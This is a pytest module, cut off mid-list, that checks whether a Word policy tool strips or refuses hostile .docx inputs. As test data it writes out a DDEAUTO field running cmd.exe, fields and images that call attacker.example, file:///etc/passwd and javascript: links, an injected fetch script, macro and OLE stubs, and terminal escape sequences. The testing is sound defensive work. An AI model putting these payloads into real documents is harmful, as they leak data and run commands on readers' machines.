"""Hostile input, round 3 (issue 23): the adopted policy and the kit as attack surfaces.

One row per attempt of the issue, each run as the command line (a subprocess under a memory cap and a time
limit, as tests/test_hostile_input.py does): the exit code, the words of the message, the time, and that no
output holds anything active or outbound, checked by parsing every part of every .docx written
(tests/docx_check.py, written apart from the code it checks).

The adopted policies are the mini pack's policy of tests/hostile/valid.yaml, altered as an attacker would:
a paragraph added with a field, a link, an object; a relationship, a part, a content type; the embedded
answers forged; the zip bent.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from .conftest import ROOT
from .docx_check import active_content
from .test_hostile_input import (
    AS_OF,
    HOSTILE,
    Attack,
    R_TYPE,
    RELS_NS,
    _copy_pack,
    _inflated_policy,
    _old_policy,
    _part,
    _rezip,
    run_capped,
)

NS = "urn:balises:policy:1"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
ATTACKER = "http://attacker.example"


# ---------------------------------------------------------------------------------------- building blocks

def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def _write(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def _rel(rel_id: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{R_TYPE}{kind}" Target="{target}"{mode}/>'


def _field(code: str, shown: str = "x") -> str:
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{code}'
            f'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _adopted(tmp: Path, pack: Path, paragraph: str = "", rels: str = "", parts: dict | None = None,
             types: str = "", name: str = "old.docx") -> Path:
    """The adopted policy with ``paragraph`` (runs, or a whole block if it starts with ``<w:``p/tbl) added at
    the end of the body, ``rels`` added to the document's relationships, ``parts`` and content ``types``."""
    _old_policy(tmp, pack)
    path = tmp / name
    if name != "old.docx":
        shutil.copy(tmp / "old.docx", path)
    content = _parts(path)
    doc = content["word/document.xml"].decode()
    if paragraph:
        block = paragraph if paragraph.startswith(("<w:p>", "<w:p ", "<w:tbl", "<w:altChunk", "<w:sdt")) else (
            f"<w:p><w:r><w:t>Paragraphe ajouté par l'organisation.</w:t></w:r>{paragraph}</w:p>")
        at = doc.rindex("<w:sectPr")
        doc = doc[:at] + block + doc[at:]
        doc = doc.replace("<w:document ", f"<w:document {VML} ", 1) if "xmlns:v=" not in doc else doc
    content["word/document.xml"] = doc.encode()
    if rels:
        content["word/_rels/document.xml.rels"] = content["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", rels.encode() + b"</Relationships>")
    if types:
        content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(b"</Types>",
                                                                                types.encode() + b"</Types>")
    content.update(parts or {})
    _write(path, content)
    return path


def _payload(tmp: Path, pack: Path, change: Callable[[dict], object], keep: bool = False) -> Path:
    """The adopted policy (``keep``: as already altered in ``tmp``) with its embedded answers forged by
    ``change(payload)``."""
    if not keep:
        _old_policy(tmp, pack)
    content = _parts(tmp / "old.docx")
    name = next(n for n in content if n.startswith("customXml/") and NS.encode() in content[n][:400])
    xml = content[name].decode()
    start, end = xml.index('<ns0:data format="json">') + len('<ns0:data format="json">'), xml.index("</ns0:data>")
    value = json.loads(xml[start:end].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&"))
    text = change(value)
    text = text if isinstance(text, str) else json.dumps(value, ensure_ascii=False)
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    content[name] = (xml[:start] + text + xml[end:]).encode()
    _write(tmp / "old.docx", content)
    return tmp / "old.docx"


def _update(make: Callable, *options: str) -> Callable:
    def build(tmp, pack):
        path = make(tmp, pack)
        return ["update", str(path), "-o", str(tmp / "new.docx"), "--as-of", AS_OF, "--pack", str(pack), *options]
    return build


def _regenerate(make: Callable) -> Callable:
    def build(tmp, pack):
        return ["regenerate", str(make(tmp, pack)), "-o", str(tmp / "new.docx"), "--as-of", AS_OF,
                "--pack", str(pack)]
    return build


def _redline(make: Callable) -> Callable:
    def build(tmp, pack):
        path = make(tmp, pack)
        shutil.copy(tmp / "old.docx", tmp / "hostile.docx") if path.name != "hostile.docx" else None
        clean = tmp / "clean.docx"
        clean.write_bytes(_old_docx(tmp, pack))
        return ["diff", str(tmp / "hostile.docx"), str(clean), "--redline", str(tmp / "new.docx"), "--pack", str(pack)]
    return build


def _old_docx(tmp: Path, pack: Path) -> bytes:
    from .test_hostile_input import _OLD_POLICY

    _old_policy(tmp / "..", pack) if str(pack) not in _OLD_POLICY else None
    return _OLD_POLICY[str(pack)]


def _clean(*outputs: str, said: tuple = ()) -> Callable:
    """Every output exists and holds nothing active or outbound; ``said``: words of the report."""
    def check(tmp: Path, result) -> None:
        for name in outputs:
            for path in (sorted((tmp / name).glob("*.docx")) if (tmp / name).is_dir() else [tmp / name]):
                assert path.is_file(), f"{path} not written"
                found = active_content(path)
                assert found == [], f"{path.name}: {found}"
        out = result.stdout + result.stderr
        for word in said:
            assert word.lower() in out.lower(), f"{word!r} not in: {out}"
    return check


# ---------------------------------------------------------------------------------------- 1, 13: references

def _reference(tmp: Path, pack: Path, how: str) -> Path:
    """A pack whose reference .docx carries one way of reaching out, encoded to slip past a byte search."""
    target = _copy_pack(tmp, pack)
    ref = target / "policy_templates" / "reference.docx"
    footer = _part(ref, "word/footer1.xml")
    image = '<w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdImg"/></v:shape></w:pict></w:r>'
    footer_rels = (f'<?xml version="1.0" encoding="UTF-16" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
                   f'{_rel("rIdImg", "image", ATTACKER + "/pixel.png")}</Relationships>')
    with_v = footer.replace("<w:ftr ", f"<w:ftr {VML} ", 1) if "xmlns:v=" not in footer else footer
    if how == "rels-utf16":
        _rezip(ref, {"word/footer1.xml": with_v.replace("<w:r><w:tab/></w:r>", image + "<w:r><w:tab/></w:r>", 1)
                     .encode()}, {"word/_rels/footer1.xml.rels": footer_rels.encode("utf-16")})
    elif how == "targetmode-charref":
        rels = footer_rels.replace('encoding="UTF-16"', 'encoding="UTF-8"').replace(
            'TargetMode="External"', 'TargetMode="&#69;xternal"')
        _rezip(ref, {"word/footer1.xml": with_v.replace("<w:r><w:tab/></w:r>", image + "<w:r><w:tab/></w:r>", 1)
                     .encode()}, {"word/_rels/footer1.xml.rels": rels.encode()})
    elif how == "footer-utf16-includepicture":
        text = footer.replace("<w:r><w:tab/></w:r>", _field(f' INCLUDEPICTURE "{ATTACKER}/logo.png" \\d ')
                              + "<w:r><w:tab/></w:r>", 1)
        text = text.replace("encoding='UTF-8'", "encoding='UTF-16'")
        _rezip(ref, {"word/footer1.xml": text.encode("utf-16")})
    elif how == "footer-utf16-dtd":
        text = footer.replace("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
                              '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:ftr [<!ENTITY org "Pwned">]>')
        _rezip(ref, {"word/footer1.xml": text.replace(">Page <", ">&org; Page <", 1).encode("utf-16")})
    elif how == "vba":
        rels = _part(ref, "word/_rels/document.xml.rels").replace("</Relationships>", _rel(
            "rIdVba", "vbaProject", "vbaProject.bin", external=False).replace(
            R_TYPE + "vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
            + "</Relationships>")
        types = _part(ref, "[Content_Types].xml").replace(
            "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        _rezip(ref, {"word/_rels/document.xml.rels": rels.encode(), "[Content_Types].xml": types.encode()},
               {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"VBA" * 200})
    elif how == "ole":
        obj = ('<w:r><w:object><v:shape style="width:9pt;height:9pt"/><o:OLEObject Type="Embed" ProgID="Package" '
               'r:id="rIdOle"/></w:object></w:r>')
        rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
                f'{_rel("rIdOle", "oleObject", "embeddings/oleObject1.bin", external=False)}</Relationships>')
        types = _part(ref, "[Content_Types].xml").replace("</Types>", '<Default Extension="bin" ContentType='
                                                          '"application/vnd.openxmlformats-officedocument.oleObject"/></Types>')
        footer_with_object = with_v.replace("<w:r><w:tab/></w:r>", obj + "<w:r><w:tab/></w:r>", 1)
        _rezip(ref, {"word/footer1.xml": footer_with_object.encode(), "[Content_Types].xml": types.encode()},
               {"word/_rels/footer1.xml.rels": rels.encode(),
                "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 64})
    elif how == "second-answers":
        item = (f'<?xml version="1.0" encoding="UTF-8"?><policy xmlns="{NS}"><data format="json">'
                '{"format": "balises-policy", "profile": {"organisation": {"name": "Forged"}}}</data></policy>')
        rels = _part(ref, "word/_rels/document.xml.rels").replace("</Relationships>", _rel(
            "rIdForged", "customXml", "../customXml/item9.xml", external=False) + "</Relationships>")
        _rezip(ref, {"word/_rels/document.xml.rels": rels.encode()}, {"customXml/item9.xml": item.encode()})
    return target


def _with_reference(how: str, command: str):
    """``generate`` or ``lint`` with a pack whose reference carries attack ``how``."""
    def build(tmp, pack):
        head = (["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF]
                if command == "generate" else ["lint"])
        return [*head, "--pack", str(_reference(tmp, pack, how))]
    return build


def _gen_with(how: str):
    return _with_reference(how, "generate")


def _lint_with(how: str):
    return _with_reference(how, "lint")


def _verify_with(how: str):
    def build(tmp, pack):
        from balises.packs.authoring import build_archive

        out = tmp / "sent.zip"
        build_archive(_reference(tmp, pack, how), out)
        return ["pack", "verify", str(out)]
    return build


def _kit_with_every_reference_attack(tmp: Path, pack: Path) -> list[str]:
    target = _reference(tmp, pack, "rels-utf16")
    ref = target / "policy_templates" / "reference.docx"
    for how in ("vba", "second-answers"):
        other = _reference(tmp / how, pack, how) if (tmp / how).mkdir() is None else None
        parts = _parts(other / "policy_templates" / "reference.docx")
        mine = _parts(ref)
        for name in ("word/vbaProject.bin", "customXml/item9.xml"):
            if name in parts:
                mine[name] = parts[name]
        for name in ("word/_rels/document.xml.rels", "[Content_Types].xml"):
            if how == "vba" and name == "[Content_Types].xml" or name.endswith(".rels"):
                extra = re.findall(rb"<(?:Relationship|Default)[^>]*(?:vbaProject|item9)[^>]*/>", parts[name])
                mine[name] = mine[name].replace(b"</Relationships>", b"".join(extra) + b"</Relationships>").replace(
                    b"</Types>", b"".join(extra) + b"</Types>")
        _write(ref, mine)
    return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "kit"), "--kit", "--no-pdf", "--as-of", AS_OF,
            "--pack", str(target)]


# ---------------------------------------------------------------------------------------- 4: active content

OUTBOUND = {
    "ddeauto": (_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "", ("DDEAUTO",)),
    "includepicture": (_field(f' INCLUDEPICTURE "{ATTACKER}/p.png" \\d '), "", ("INCLUDEPICTURE",)),
    "includetext": (_field(' INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\x.docx" '), "", ("INCLUDETEXT",)),
    "split-field": ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLU</w:instrText></w:r>'
                    f'<w:r><w:instrText>DEPICTURE "{ATTACKER}/split.png"</w:instrText></w:r>'
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r>', "", ("INCLUDEPICTURE",)),
    "simple-field": (f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{ATTACKER}/s.png&quot; "><w:r><w:t>s</w:t></w:r>'
                     '</w:fldSimple>', "", ("INCLUDEPICTURE",)),
    "remote-image": ('<w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdRemote"/>'
                     '</v:shape></w:pict></w:r>', _rel("rIdRemote", "image", ATTACKER + "/pixel.png"),
                     ("attacker.example",)),
    "unc-image": ('<w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdUnc"/></v:shape>'
                  '</w:pict></w:r>', _rel("rIdUnc", "image", "\\\\attacker.example\\share\\x.png", external=False),
                  ("attacker.example",)),
    "vml-href": ('<w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata o:href="file:///etc/passwd"/>'
                 '</v:shape></w:pict></w:r>', "", ("file:///etc/passwd",)),
    "ole-link-always": ('<w:r><w:object><v:shape style="width:9pt;height:9pt"/><o:OLEObject Type="Link" '
                        'ProgID="Excel.Sheet.12" UpdateMode="Always" r:id="rIdLink"><o:LinkType>EnhancedMetafile'
                        '</o:LinkType></o:OLEObject></w:object></w:r>',
                        _rel("rIdLink", "oleObject", "file:///\\\\attacker.example\\share\\book.xlsx"), ("OLE",)),
    "subdocument": ('<w:subDoc r:id="rIdSub"/>', _rel("rIdSub", "subDocument", ATTACKER + "/sub.docx"),
                    ("sub",)),
    "javascript-link": ('<w:hyperlink r:id="rIdJs"><w:r><w:t>cliquez ici</w:t></w:r></w:hyperlink>',
                        _rel("rIdJs", "hyperlink", "javascript:alert(document.domain)"), ("javascript:",)),
    "file-link": ('<w:hyperlink r:id="rIdFile"><w:r><w:t>intranet</w:t></w:r></w:hyperlink>',
                  _rel("rIdFile", "hyperlink", "file:///etc/passwd"), ("file:///etc/passwd",)),
    "hyperlink-field": (_field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" '), "", ("HYPERLINK",)),
    "targetmode-charref": ('<w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdCr"/>'
                           '</v:shape></w:pict></w:r>',
                           _rel("rIdCr", "image", ATTACKER + "/cr.png").replace('"External"', '"&#69;xternal"'),
                           ("attacker.example",)),
}


def _outbound(key: str):
    runs, rels, _ = OUTBOUND[key]

    def make(tmp, pack):
        return _adopted(tmp, pack, runs, rels)
    return make


def _alt_chunk(tmp: Path, pack: Path) -> Path:
    return _adopted(tmp, pack, '<w:altChunk r:id="rIdAlt"/>',
                    _rel("rIdAlt", "aFChunk", "afchunk.html", external=False),
                    {"word/afchunk.html": b"<html><body><script>fetch('http://attacker.example')</script>"
                                          b"<p>importe</p></body></html>"},
                    '<Default Extension="html" ContentType="text/html"/>')


def _ole_package(tmp: Path, pack: Path) -> Path:
    return _adopted(tmp, pack, '<w:r><w:object><v:shape style="width:9pt;height:9pt"/><o:OLEObject Type="Embed" '
                    'ProgID="Package" r:id="rIdPkg"/></w:object></w:r>',
                    _rel("rIdPkg", "package", "embeddings/payload.exe", external=False),
                    {"word/embeddings/payload.exe": b"MZ" + b"\x00" * 512},
                    '<Default Extension="exe" ContentType="application/vnd.openxmlformats-officedocument.package"/>')


def _docm(tmp: Path, pack: Path) -> Path:
    path = _adopted(tmp, pack, "", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                    'relationships/vbaProject" Target="vbaProject.bin"/>', {"word/vbaProject.bin": b"\xd0\xcf" * 99},
                    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    content = _parts(path)
    content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    _write(path, content)
    return path


def _attached_template(tmp: Path, pack: Path) -> Path:
    path = _adopted(tmp, pack)
    content = _parts(path)
    settings = content["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', settings, count=1)
    content["word/settings.xml"] = settings.encode()
    rels = content.get("word/_rels/settings.xml.rels", f'<Relationships xmlns="{RELS_NS}"></Relationships>'.encode())
    content["word/_rels/settings.xml.rels"] = rels.replace(
        b"</Relationships>", _rel("rIdT", "attachedTemplate", ATTACKER + "/t.dotm").encode() + b"</Relationships>")
    _write(path, content)
    return path


def _members(tmp: Path, pack: Path) -> list[str]:
    members = tmp / "members"
    members.mkdir()
    for key in ("ddeauto", "remote-image", "javascript-link"):
        runs, rels, _ = OUTBOUND[key]
        shutil.move(_adopted(tmp, pack, runs, rels, name=f"{key}.docx"), members / f"{key}.docx")
    return ["update", str(members), "-o", str(tmp / "updated"), "--as-of", AS_OF, "--pack", str(pack), "-j", "1"]


def _members_report(tmp: Path, result) -> None:
    import csv

    _clean("updated")(tmp, result)
    with open(tmp / "updated" / "report.csv", newline="") as fh:
        lines = list(csv.DictReader(fh))
    assert len(lines) == 3 and all(line["status"] == "ok" and line["removed"] for line in lines), lines


# ---------------------------------------------------------------------------------------- 2, 3: bounds

def _repeated(count: int):
    """The issue's attack: ``count`` paragraphs of one letter in the body and, one fewer, in the embedded text
    Balises is supposed to have written (so that the alignment meets them on both sides)."""
    def make(tmp: Path, pack: Path) -> Path:
        _adopted(tmp, pack, "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * count)
        return _payload(tmp, pack, lambda p: p.update(units=p["units"] + [
            {"clause": p["units"][-1]["clause"], "text": "a"}] * min(count - 1, 19_000)), keep=True)
    return make




def _nested(depth: int):
    def make(tmp: Path, pack: Path) -> Path:
        cell = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
        return _adopted(tmp, pack, cell)
    return make


def _elements(tmp: Path, pack: Path) -> Path:
    """1.2 million empty runs in one paragraph: 7 MB once inflated, within the size limit of an XML part."""
    return _adopted(tmp, pack, "<w:p>" + "<w:r/>" * 1_200_000 + "</w:p>")


def _big_xml(tmp: Path, pack: Path) -> Path:
    """9 MB of text in one paragraph: under the part limit, over that of an XML part."""
    return _adopted(tmp, pack, "<w:p><w:r><w:t>" + "texte " * 1_500_000 + "</w:t></w:r></w:p>")


def _many_parts(tmp: Path, pack: Path) -> Path:
    return _adopted(tmp, pack, parts={f"customXml/junk{i}.xml": b"<a/>" for i in range(1200)})


def _twice(tmp: Path, pack: Path) -> Path:
    """The same part twice in the zip: two programs could each read another one."""
    path = _adopted(tmp, pack)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("WORD/document.xml", b"<w:document/>")
    return path


def _dtd_in_document(encoding: str):
    def make(tmp: Path, pack: Path) -> Path:
        path = _adopted(tmp, pack, "<w:r><w:t>&org;</w:t></w:r>")
        content = _parts(path)
        doc = content["word/document.xml"].decode()
        doc = re.sub(r"^<\?xml[^>]*\?>", f'<?xml version="1.0" encoding="{encoding}"?>'
                     '<!DOCTYPE w:document [<!ENTITY org "Organisation">]>', doc)
        content["word/document.xml"] = doc.encode(encoding)
        _write(path, content)
        return path
    return make


def _utf16_document(tmp: Path, pack: Path) -> Path:
    runs, rels, _ = OUTBOUND["includepicture"]
    path = _adopted(tmp, pack, runs, rels)
    content = _parts(path)
    doc = content["word/document.xml"].decode()
    doc = re.sub(r"^<\?xml[^>]*\?>", '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>', doc)
    content["word/document.xml"] = doc.encode("utf-16")
    _write(path, content)
    return path


# ---------------------------------------------------------------------------------------- 5, 12: forged

def _not_a_word_file(kind: str):
    def make(tmp: Path, pack: Path) -> Path:
        _old_policy(tmp, pack)
        content = _parts(tmp / "old.docx")
        answers = {n: v for n, v in content.items() if n.startswith("customXml/")}
        if kind == "xlsx":
            import openpyxl

            book = openpyxl.Workbook()
            book.save(tmp / "book.xlsx")
            parts = _parts(tmp / "book.xlsx")
            parts.update(answers)
        else:
            parts = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>", **answers}
        _write(tmp / "old.docx", parts)
        return tmp / "old.docx"
    return make


def _two_answers(tmp: Path, pack: Path) -> Path:
    _old_policy(tmp, pack)
    content = _parts(tmp / "old.docx")
    name = next(n for n in content if n.startswith("customXml/") and NS.encode() in content[n][:400])
    content["customXml/item8.xml"] = content[name].replace(b"Compagnie Hostile", b"Compagnie Usurpee")
    content["word/_rels/document.xml.rels"] = content["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", _rel("rIdItem8", "customXml", "../customXml/item8.xml", external=False).encode()
        + b"</Relationships>")
    _write(tmp / "old.docx", content)
    return tmp / "old.docx"


def _history(count: int):
    def change(p):
        p["history"] = [{"version": f"1.{i}", "date": "2026-01-01", "adopted_by": "CA", "summary": "x" * 100}
                        for i in range(count)]
    return change


FORGED = {
    "profile-is-a-string": (lambda p: p.update(profile="organisation: Pwned"), ("profile",)),
    "version-is-a-mapping": (lambda p: p.update(version={"a": 1}), ("version",)),
    "version-crlf": (lambda p: p.update(version="1.0\r\nAdopted-by: attacker"), ("version",)),
    "pack-is-a-string": (lambda p: p.update(pack="balises-default"), ("pack",)),
    "lang-unknown": (lambda p: p.update(lang="de"), ("lang",)),
    "units-not-a-list": (lambda p: p.update(units="everything"), ("units",)),
    "units-wrong-items": (lambda p: p.update(units=[{"clause": 5, "text": None}]), ("units",)),
    "history-2000": (_history(2000), ("history",)),
    "huge-number": (lambda p: json.dumps(p).replace('"format_version": 2', '"format_version": ' + "9" * 5000),
                    ("digits",)),
    "control-chars": (lambda p: p.update(approved_by="Conseil\u001b]0;pwned\u0007"), ("approved_by",)),
    "deep-json": (lambda p: json.dumps(p)[:-1] + ', "x": ' + "[" * 50_000 + "]" * 50_000 + "}", ("old.docx",)),
    "clauses-wrong": (lambda p: p.update(clauses=[{"clause": ["a"]}]), ("clauses",)),
}


def _forged(key: str):
    def make(tmp, pack):
        return _payload(tmp, pack, FORGED[key][0])
    return make


# ---------------------------------------------------------------------------------------- 9: terminal

ESCAPES = re.compile("[\x1b\x07\x9b]")


def _no_escape(tmp: Path, result) -> None:
    assert not ESCAPES.search(result.stdout + result.stderr), repr(result.stdout + result.stderr)


def _escape_file_names(tmp: Path, pack: Path) -> list[str]:
    members = tmp / "members"
    members.mkdir()
    _old_policy(tmp, pack)
    shutil.copy(tmp / "old.docx", members / "\x1b]0;pwned\x07\x1b[2J.docx")
    (members / "\x1b[1;32mall passed\x1b[0m.docx").write_bytes(b"not a policy")
    return ["update", str(members), "-o", str(tmp / "updated"), "--as-of", AS_OF, "--pack", str(pack), "-j", "1"]


def _escape_case(tmp: Path, pack: Path) -> list[str]:
    target = _copy_pack(tmp, pack)
    (target / "tests").mkdir()
    (target / "tests" / "case.yaml").write_text(
        'description: "\\e[2J\\e[H\\e]0;owned\\a all 12 cases passed"\n'
        "profile:\n  schema_version: 1\n  organisation: {name: Membre, jurisdiction: quebec, sector: music, "
        "employees: 3}\n")
    return ["test", "--pack", str(target)]


def _escape_title(tmp: Path, pack: Path) -> Path:
    """The title page rewritten with a C1 control (CSI, valid in XML): printed as 'not carried over'."""
    _old_policy(tmp, pack)
    content = _parts(tmp / "old.docx")
    doc = content["word/document.xml"].decode()
    doc = doc.replace("Compagnie Hostile", "Compagnie \u009b2J\u009bH Hostile", 1)
    content["word/document.xml"] = doc.encode()
    _write(tmp / "old.docx", content)
    return tmp / "old.docx"


# ---------------------------------------------------------------------------------------- 6, 7 and the rest

def _profile_with(tmp: Path, old: str, new: str) -> Path:
    path = tmp / "answers.yaml"
    path.write_text((HOSTILE / "valid.yaml").read_text().replace(old, new))
    return path


def _redline_over_old(tmp: Path, pack: Path) -> list[str]:
    _old_policy(tmp, pack)
    shutil.copy(tmp / "old.docx", tmp / "other.docx")
    return ["diff", str(tmp / "old.docx"), str(tmp / "other.docx"), "--redline", str(tmp / "old.docx"),
            "--pack", str(pack)]


def _unchanged_old(tmp: Path, result) -> None:
    from .test_hostile_input import _OLD_POLICY

    assert (tmp / "old.docx").read_bytes() in _OLD_POLICY.values() or zipfile.is_zipfile(tmp / "old.docx")
    assert active_content(tmp / "old.docx") == []


def _csv_utf16(tmp: Path, pack: Path) -> list[str]:
    text = ("organisation.name,organisation.jurisdiction,organisation.sector,organisation.employees\n"
            "Théâtre Ünicode,quebec,music,3\n")
    (tmp / "members.csv").write_bytes(text.encode("utf-16"))
    return ["batch", str(tmp / "members.csv"), "-o", str(tmp / "out"), "--as-of", AS_OF, "--pack", str(pack),
            "-j", "1"]


def _batch_named(tmp: Path, result) -> None:
    assert [p.name for p in (tmp / "out").glob("*.docx")] == ["theatre-unicode.docx"], list((tmp / "out").iterdir())


def _csv_language(tmp: Path, pack: Path) -> list[str]:
    (tmp / "members.csv").write_text("organisation.name,organisation.jurisdiction,organisation.sector,"
                                     "organisation.employees,policy.languages\nMembre,quebec,music,3,de\n")
    return ["batch", str(tmp / "members.csv"), "-o", str(tmp / "out"), "--as-of", AS_OF, "--pack", str(pack),
            "-j", "1"]


def _language_named(tmp: Path, result) -> None:
    report = (tmp / "out" / "report.csv").read_text()
    assert "policy.languages: value 'de'" in report and "languages.2" not in report and "[1]" not in report, report


def _many_values(tmp: Path, pack: Path) -> list[str]:
    path = tmp / "answers.yaml"
    path.write_text("schema_version: 1\nnotes: [" + ",".join(["1"] * 201_000) + "]\n")
    return ["generate", str(path), "-o", str(tmp / "policy.docx")]


def _no_alias(tmp: Path, result) -> None:
    assert "alias" not in result.stderr.lower(), result.stderr


def _row(key: str, command: Callable, outputs: str = "new.docx") -> Attack:
    return Attack(f"{command.__name__.strip('_')}-{key}", command(_outbound(key)), exit=0,
                  check=_clean(outputs, said=OUTBOUND[key][2]))


ATTACKS = [
    # 1, 13. a pack's reference document: encodings that slipped past the byte search; macros, OLE, answers
    *[Attack(f"reference-{how}-generate", _gen_with(how), exit=0, check=_clean("policy.docx"))
      for how in ("rels-utf16", "targetmode-charref", "footer-utf16-includepicture", "vba", "ole", "second-answers")],
    Attack("reference-rels-utf16-lint", _lint_with("rels-utf16"), exit=1, words=("reference.docx", "attacker.example")),
    Attack("reference-targetmode-charref-lint", _lint_with("targetmode-charref"), exit=1,
           words=("reference.docx", "attacker.example")),
    Attack("reference-footer-utf16-includepicture-lint", _lint_with("footer-utf16-includepicture"), exit=1,
           words=("reference.docx", "INCLUDEPICTURE")),
    Attack("reference-vba-lint", _lint_with("vba"), exit=1, words=("reference.docx", "VBA")),
    Attack("reference-ole-lint", _lint_with("ole"), exit=1, words=("reference.docx", "OLE")),
    Attack("reference-second-answers-lint", _lint_with("second-answers"), exit=1,
           words=("reference.docx", "embedded answers")),
    Attack("reference-rels-utf16-pack-verify", _verify_with("rels-utf16"), exit=1,
           words=("reference.docx", "attacker.example")),
    Attack("reference-vba-pack-verify", _verify_with("vba"), exit=1, words=("reference.docx", "VBA")),
    Attack("reference-footer-utf16-dtd", _gen_with("footer-utf16-dtd"), words=("reference.docx", "footer1.xml", "DTD")),
    Attack("reference-every-attack-kit", _kit_with_every_reference_attack, exit=0, check=_clean("kit"), seconds=60,
           slow=True),
    # 4. active or outbound content of the adopted document, never carried into the new version
    *[_row(key, _update) for key in OUTBOUND],
    *[_row(key, _redline) for key in ("ddeauto", "remote-image", "javascript-link", "ole-link-always")],
    Attack("update-altchunk-script", _update(_alt_chunk), exit=0, check=_clean("new.docx", said=("altChunk",))),
    Attack("update-ole-package", _update(_ole_package), exit=0, check=_clean("new.docx", said=("embedded",))),
    Attack("update-docm-macros", _update(_docm), exit=0, check=_clean("new.docx", said=("VBA",))),
    Attack("update-attached-template", _update(_attached_template), exit=0,
           check=_clean("new.docx", said=("attachedTemplate",))),
    Attack("update-members-folder", _members, exit=0, check=_members_report, seconds=60),
    # 2, 3. bounds: repetitive paragraphs, inflated size, parts, elements, depth
    Attack("update-16k-repeated-paragraphs", _update(_repeated(16_000)), exit=0, check=_clean("new.docx"),
           seconds=30, slow=True),
    # the same, recorded as adopted: an update with nothing else to do returns the file as it is (issue 22),
    # an adoption record makes it merge and write every paragraph (15,999 deletions in one run)
    Attack("update-16k-repeated-paragraphs-merged", _update(_repeated(16_000), "--adopted-on", "2026-11-20"),
           exit=0, check=_clean("new.docx", said=("adopted by",)), seconds=30, slow=True),
    Attack("update-40k-repeated-paragraphs", _update(_repeated(40_000)), words=("too many paragraphs", "20000"),
           seconds=30),
    Attack("update-3GB-inflated", _update(_inflated_policy), words=("old.docx", "word/document.xml", "too large")),
    Attack("update-1200-parts", _update(_many_parts), words=("old.docx", "too many parts")),
    Attack("update-1.2M-elements", _update(_elements), words=("old.docx", "too many XML elements")),
    Attack("update-9MB-xml-part", _update(_big_xml), words=("old.docx", "word/document.xml", "XML part too large")),
    Attack("update-tables-2000-deep", _update(_nested(2000)), words=("old.docx", "nested", "160")),
    Attack("update-tables-60-deep", _update(_nested(60)), words=("old.docx", "nested", "160")),
    Attack("update-part-twice", _update(_twice), words=("old.docx", "twice")),
    # 8. a DTD in the document (any encoding): refused, never copied without its definition
    Attack("update-dtd-in-document", _update(_dtd_in_document("UTF-8")), words=("word/document.xml", "DTD")),
    Attack("update-dtd-in-utf16-document", _update(_dtd_in_document("UTF-16")), words=("word/document.xml", "DTD")),
    Attack("update-utf16-document-field", _update(_utf16_document), exit=0,
           check=_clean("new.docx", said=("INCLUDEPICTURE",))),
    # 5, 12. forged embedded answers and other packages: exit 2 naming the field, never "internal error"
    *[Attack(f"update-forged-{key}", _update(_forged(key)), words=words) for key, (_, words) in FORGED.items()],
    *[Attack(f"regenerate-forged-{key}", _regenerate(_forged(key)), words=words)
      for key, (_, words) in FORGED.items() if key in ("pack-is-a-string", "version-crlf", "history-2000")],
